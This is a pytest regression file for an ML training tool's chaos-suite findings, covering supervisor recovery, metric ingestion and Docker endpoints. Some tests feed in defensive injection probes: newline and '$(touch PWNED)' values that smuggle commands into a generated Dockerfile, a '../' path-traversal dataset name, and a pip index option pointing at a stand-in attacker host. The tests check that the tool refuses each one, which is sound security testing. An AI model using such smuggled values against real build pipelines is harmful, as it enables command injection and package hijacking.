"""Regression tests for what the chaos suite (benchmarks/chaos.py) and its fuzzing found.

Each test reproduces one bug with real processes, SQLite and (where marked) Docker. Until the
lead applies the fix each is ``xfail(strict=True)`` with the bug in its reason, so the suite
stays green while the bug is there and turns red the moment the fix lands (then drop the mark).
Jobs here are tiny Python scripts (no TensorFlow): the behaviour under test is the engine's.
"""
from __future__ import annotations

import json
import multiprocessing
import os
import signal
import stat
import subprocess
import sys
import time

import pytest

from chaos_helpers import CHAOS, job_pids, supervisor_pid, wait_for

STAGED_JOB = """
    import os, pathlib, time
    from mltrain_desktop.run import Run
    run = Run.get_context()
    out = pathlib.Path(os.environ["MLTRAIN_OUTPUTS_DIR"])
    for i in range(5):
        run.log("p", float(i))
    (out / "phase1").write_text("")
    while not (out / "go").exists():
        time.sleep(0.05)
    for i in range(5, 10):
        run.log("p", float(i))
    (out / "phase2").write_text("")
    time.sleep(120)
"""
SLEEPER = """
    import time
    from mltrain_desktop.run import Run
    Run.get_context().log("started", 1)
    time.sleep(300)
"""


def _submit(ws, src, script="job.py", arguments=(), target="local", **kw):
    from mltrain_desktop.core import Experiment
    from mltrain_desktop.train.estimator import Estimator
    est = Estimator(source_directory=str(src), entry_script=script, arguments=list(arguments),
                    compute_target=target, **kw)
    return Experiment(ws, "regress").submit(est)


def _running(run, timeout=60):
    wait_for(lambda: run.get_status() == "Running", timeout, f"run {run.id} Running")


def _kill(pid: int) -> None:
    """SIGKILL, then wait until the process is gone or a zombie (the signal is not instant)."""
    import psutil
    try:
        os.kill(pid, signal.SIGKILL)
        proc = psutil.Process(pid)
        wait_for(lambda: not proc.is_running() or proc.status() == psutil.STATUS_ZOMBIE, 10, f"pid {pid} to die")
    except (OSError, psutil.NoSuchProcess):
        pass


# -- B1: recovery loses the metrics a job flushed after its supervisor died ------------------------
def test_recovery_keeps_the_metrics_flushed_after_the_supervisor_died(ws, make_script):
    run = _submit(ws, make_script(STAGED_JOB))
    out = run.run_dir / "outputs"
    wait_for(lambda: (out / "phase1").exists(), 60, "the first five points")
    wait_for(lambda: len(run.get_metric_series("p")[0]) == 5, 20, "the supervisor to ingest them")
    _kill(supervisor_pid(ws.path, run.id))
    (out / "go").write_text("")
    wait_for(lambda: (out / "phase2").exists(), 20, "the job to flush five more")
    ws.recover()
    assert run.get_status() == "Failed"
    assert run.get_metric_series("p")[0] == list(range(10))


def _ingest_in_process(ws_path: str, run_id: str, path: str, barrier) -> None:
    from mltrain_desktop.store.db import connect
    from mltrain_desktop.store.metrics import ingest_file
    db = connect(os.path.join(ws_path, "workspace.db"))
    barrier.wait()
    ingest_file(db.conn, run_id, path)


def test_two_ingesters_of_one_file_store_each_point_once(ws, tmp_path):
    path = tmp_path / "metrics.jsonl"
    with open(path, "w") as fh:
        for i in range(100_000):
            fh.write(json.dumps({"k": "m", "n": "loss", "s": i, "v": 0.5, "t": 1.0}) + "\n")
    ctx = multiprocessing.get_context("spawn")
    barrier = ctx.Barrier(2)
    procs = [ctx.Process(target=_ingest_in_process, args=(str(ws.path), "r1", str(path), barrier)) for _ in range(2)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(120)
    assert [p.exitcode for p in procs] == [0, 0]
    assert ws.db.execute("SELECT COUNT(*) FROM metrics").fetchone()[0] == 100_000


# -- B2: recovery does not stop a parameter-server job ---------------------------------------------
def test_recovery_stops_every_task_of_a_parameter_server_job(ws, make_script):
    from mltrain_desktop.core.runconfig import TensorflowConfiguration
    run = _submit(ws, make_script(SLEEPER), distributed_training=TensorflowConfiguration(1, 1))
    _running(run)
    wait_for(lambda: len(job_pids(run.id)) >= 6, 30, "launchers and scripts of chief, worker and ps")
    _kill(supervisor_pid(ws.path, run.id))
    try:
        ws.recover()
        assert run.get_status() == "Failed"
        wait_for(lambda: not job_pids(run.id), 10, "the job's processes to end")
    finally:
        for pid in job_pids(run.id):
            _kill(pid)


# -- B3 (issue 11): a second client removes a Docker endpoint's container --------------------------
@pytest.mark.docker
def test_a_docker_endpoint_survives_a_second_client(ws, tmp_path):
    from mltrain_desktop.core import ComputeTarget, InferenceConfig, Model, Webservice
    from mltrain_desktop.core.compute_docker import DockerCompute
    from mltrain_desktop.core.webservice import DockerWebservice, deploy
    _need_docker()
    ComputeTarget.create(ws, "docker1", DockerCompute.provisioning_configuration(image="mltrain-tf:2.21"))
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "w").write_text("1")
    (tmp_path / "score.py").write_text("def init():\n    pass\n\ndef run(raw):\n    return {'ok': 1}\n")
    model = Model.register(ws, str(tmp_path / "m"), "m")
    svc = deploy(ws, "ep1", [model], inference_config=InferenceConfig("score.py", str(tmp_path)),
                 deployment_config=DockerWebservice.deploy_configuration(compute_target="docker1"))
    try:
        assert str(svc.state) == "Healthy"
        r = _cli(ws, "run", "list")
        assert r.returncode == 0, r.stderr
        assert Webservice(ws, "ep1").run({"x": 1}) == {"ok": 1}
    finally:
        Webservice(ws, "ep1").delete()


# -- B4: a claimed supervisor (pid -1) makes every other client fail -------------------------------
def test_other_clients_work_while_a_supervisor_is_being_replaced(ws, make_script):
    from mltrain_desktop.store import runs as run_rows
    run = _submit(ws, make_script(SLEEPER))
    _running(run)
    pid = supervisor_pid(ws.path, run.id)
    _kill(pid)
    assert run_rows.claim_supervisor(ws.db.conn, run.id, pid)  # a client restarting it, as recovery does
    try:
        r = _cli(ws, "run", "list")
        assert r.returncode == 0, r.stderr
    finally:
        run_rows.record_supervisor(ws.db.conn, run.id, pid, None)  # give the dead pid back: recovery settles it
        ws.recover()


# -- B5: dataset input names escape the run's folder ----------------------------------------------
def test_dataset_input_names_cannot_leave_the_run_folder(ws, make_script, tmp_path):
    from mltrain_desktop.core import Dataset
    from mltrain_desktop.core.errors import MLTrainError
    (tmp_path / "d.txt").write_text("data")
    ds = Dataset.File.from_files(path=[str(tmp_path / "d.txt")]).register(ws, "d")
    src = make_script("print('ok')\n")
    try:
        run = _submit(ws, src, arguments=["--data", ds.as_named_input("../../../../escaped").as_download()])
    except MLTrainError as exc:
        assert "input" in str(exc)
        return
    run.wait_for_completion(raise_on_error=False, timeout=60)
    assert not (tmp_path / "escaped").exists(), "the dataset was copied outside the workspace"


# -- B6: model names '.' and '..' leave the model's folder -----------------------------------------
def test_model_names_dot_and_dotdot_are_refused_and_lose_nothing(ws, tmp_path):
    from mltrain_desktop.core import Model
    from mltrain_desktop.core.errors import MLTrainError
    (tmp_path / "m").mkdir()
    (tmp_path / "m" / "weights").write_text("1")
    one = Model.register(ws, str(tmp_path / "m"), "1")
    for name in (".", ".."):
        with pytest.raises(MLTrainError):
            Model.register(ws, str(tmp_path / "m"), name)
    assert (one.local_path / "weights").read_text() == "1"


# -- B7: user values that split or escape the environment image's Dockerfile -----------------------
def _dockerfile_for(tmp_path, **run):
    from mltrain_desktop.adapters.docker.images import dockerfile, environment_spec
    from mltrain_desktop.core.run_spec import build_spec
    src = tmp_path / "src"
    src.mkdir(exist_ok=True)
    (src / "job.py").write_text("")
    spec = build_spec(source_directory=src, entry_script="job.py", arguments=[], compute_target="d", **run)
    spec["framework"] = "TensorFlow"
    return dockerfile(environment_spec(spec, {}, "base:1"), "0" * 16)


def _instructions(text: str) -> list[str]:
    """The instruction of each Dockerfile line (comments left out): a value that adds a line shows here."""
    return [line.split(" ", 1)[0] for line in text.splitlines() if not line.startswith("#")]


def test_a_newline_in_a_pip_package_cannot_add_a_dockerfile_instruction(tmp_path):
    from mltrain_desktop.core.errors import UserErrorException
    try:
        text = _dockerfile_for(tmp_path, pip_packages=["numpy\nRUN touch /pwned"])
    except UserErrorException:
        return
    assert _instructions(text) == ["FROM", "ARG", "RUN", "LABEL"], text


def test_a_newline_in_the_base_image_cannot_add_a_dockerfile_instruction(tmp_path):
    from mltrain_desktop.core.errors import UserErrorException
    try:
        text = _dockerfile_for(tmp_path, pip_packages=["numpy"], docker={"base_image": "base:1\nRUN touch /x"})
    except UserErrorException:
        return
    assert _instructions(text) == ["FROM", "ARG", "RUN", "LABEL"], text


def test_a_framework_version_cannot_run_commands_in_the_build(tmp_path):
    from mltrain_desktop.core.errors import UserErrorException
    try:
        text = _dockerfile_for(tmp_path, framework_version="2.21$(touch PWNED)")
    except UserErrorException:
        return
    check = next(line[4:] for line in text.splitlines() if line.startswith("RUN "))
    stub = tmp_path / "bin"
    stub.mkdir()
    (stub / "python3").write_text("#!/bin/sh\nexit 0\n")
    (stub / "python3").chmod(0o755 | stat.S_IXUSR)
    subprocess.run(["sh", "-c", check], cwd=tmp_path, env={"PATH": f"{stub}:/usr/bin:/bin"},
                   capture_output=True, timeout=30)
    assert not (tmp_path / "PWNED").exists(), "the framework version ran a command in the build"


# -- B8: values no process can receive are accepted at submit and fail late -----------------------
def test_a_nul_in_a_script_argument_is_refused_at_submit(ws, make_script):
    from mltrain_desktop.core.errors import UserErrorException
    with pytest.raises(UserErrorException, match="argument"):
        run = _submit(ws, make_script("print('ok')\n"), arguments=["a\x00b"])
        run.wait_for_completion(raise_on_error=False, timeout=60)


@pytest.mark.parametrize("env", [{"A-B": "1"}, {"A": "x\x00y"}])
def test_environment_variables_no_job_can_get_are_refused_at_submit(ws, make_script, env):
    from mltrain_desktop.core.errors import UserErrorException
    from mltrain_desktop.core.runconfig import MpiConfiguration
    with pytest.raises(UserErrorException, match="environment variable"):
        run = _submit(ws, make_script("print('ok')\n"), environment_variables=env,
                      distributed_training=MpiConfiguration(process_count_per_node=1))
        run.wait_for_completion(raise_on_error=False, timeout=60)


def test_a_pip_package_that_is_an_option_is_refused(tmp_path):
    from mltrain_desktop.core.errors import UserErrorException
    with pytest.raises(UserErrorException, match="pip package"):
        _dockerfile_for(tmp_path, pip_packages=["--index-url=http://attacker.invalid/simple"])


# -- B10: `run logs --follow` never ends when the run's supervisor died ----------------------------
def test_run_logs_follow_ends_when_the_supervisor_died(ws, make_script):
    run = _submit(ws, make_script(SLEEPER))
    _running(run)
    follower = subprocess.Popen([sys.executable, "-m", "mltrain_desktop.cli", "--workspace", str(ws.path), "run",
                                 "logs", run.id, "--follow"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        time.sleep(2.0)
        _kill(supervisor_pid(ws.path, run.id))
        follower.wait(timeout=20)
    except subprocess.TimeoutExpired:
        pytest.fail("`mltrain run logs --follow` still follows 20 s after the run's supervisor died")
    finally:
        follower.kill()
        follower.wait()
        ws.recover()
        for p in job_pids(run.id):
            _kill(p)
    assert run.get_status() == "Failed"


# -- helpers ------------------------------------------------------------------------------------------
def _cli(ws, *args, timeout=120):
    env = dict(os.environ)
    env.pop("MLTRAIN_WORKSPACE", None)
    return subprocess.run([sys.executable, "-m", "mltrain_desktop.cli", "--workspace", str(ws.path), *args],
                          capture_output=True, text=True, timeout=timeout, env=env)


def _need_docker():
    try:
        import docker
        api = docker.APIClient(timeout=10)
        api.inspect_image("mltrain-tf:2.21")
    except Exception as exc:  # noqa: BLE001
        pytest.skip(f"needs a Docker engine with mltrain-tf:2.21 ({exc})")



# -- B11: a Docker engine restart fails a run with an internal error --------------------------------
@pytest.mark.docker
def test_a_docker_engine_restart_fails_the_run_saying_so(ws, make_script, tmp_path):
    engine = _private_engine(tmp_path)
    try:
        from mltrain_desktop.core import ComputeTarget
        from mltrain_desktop.core.compute_docker import DockerCompute
        ComputeTarget.create(ws, "private", DockerCompute.provisioning_configuration(
            base_url=engine.url, image="mltrain-base:bookworm-py311"))
        run = _submit(ws, make_script(SLEEPER), target="private")
        _running(run, timeout=120)
        wait_for(lambda: run.get_metric_series("started")[0], 60, "the job to start")
        ok, said = engine.restart()
        assert ok, said
        wait_for(run.is_terminal, 120, "the run to end after the engine restart")
        error = run.get_details().get("error", {}).get("message", "")
        assert run.get_status() == "Failed"
        assert "engine restarted" in error.lower() and "internal error" not in error.lower(), error[:500]
        # B15: the supervisor removes the run's container once the engine answers again, without
        # waiting for another client's clean-up (the long chaos run found two left for minutes)
        import docker
        api = docker.APIClient(base_url=engine.url, timeout=30)
        wait_for(lambda: not api.containers(all=True, filters={"label": f"mltrain.run={run.id}"}), 30,
                 "the run's container to be removed after the engine came back")
    finally:
        ws.recover()
        engine.shut_down()


def _private_engine(tmp_path):
    """The chaos suite's throwaway dockerd (benchmarks/chaos_lib/dockerd.py), with the base image in it."""
    import shutil
    if os.geteuid() != 0 or shutil.which("dockerd") is None:
        pytest.skip("needs root and dockerd to start a private Docker engine")
    sys.path.insert(0, str(CHAOS.parent))
    try:
        from chaos_lib import dockerd
    finally:
        sys.path.remove(str(CHAOS.parent))
    engine = dockerd.PrivateEngine(tmp_path / "dockerd.log")
    try:
        engine.start()
        engine.ensure_image("mltrain-base:bookworm-py311")
    except Exception as exc:  # noqa: BLE001
        engine.shut_down()
        pytest.skip(f"could not start a private Docker engine: {exc}")
    engine.url = dockerd.PRIVATE_URL
    return engine


# -- minor findings ---------------------------------------------------------------------------------
def test_an_accepted_experiment_name_can_submit_runs(ws, make_script):
    from mltrain_desktop.core import Experiment
    from mltrain_desktop.core.errors import UserErrorException
    from mltrain_desktop.train.estimator import Estimator
    try:
        exp = Experiment(ws, "e" * 250)
    except UserErrorException:
        return
    run = exp.submit(Estimator(source_directory=str(make_script("print('ok')\n")), entry_script="job.py",
                               compute_target="local"))
    assert run.wait_for_completion(raise_on_error=False, timeout=60)["status"] == "Completed"


def test_a_killed_local_job_says_which_signal(ws, make_script):
    run = _submit(ws, make_script(SLEEPER))
    _running(run)
    wait_for(lambda: run.get_metric_series("started")[0], 30, "the job to start")
    for pid in job_pids(run.id):
        _kill(pid)
    run.wait_for_completion(raise_on_error=False, timeout=60)
    error = run.get_details().get("error", {}).get("message", "")
    assert "SIGKILL" in error or "signal 9" in error, error[:300]


def test_a_dataset_is_found_by_the_name_it_was_registered_with(ws, tmp_path):
    from mltrain_desktop.core import Dataset
    from mltrain_desktop.core.errors import DatasetError
    (tmp_path / "d.txt").write_text("x")
    try:
        Dataset.File.from_files(path=[str(tmp_path / "d.txt")]).register(ws, " sp ")
    except DatasetError:
        return
    assert Dataset.get_by_name(ws, " sp ").version == 1
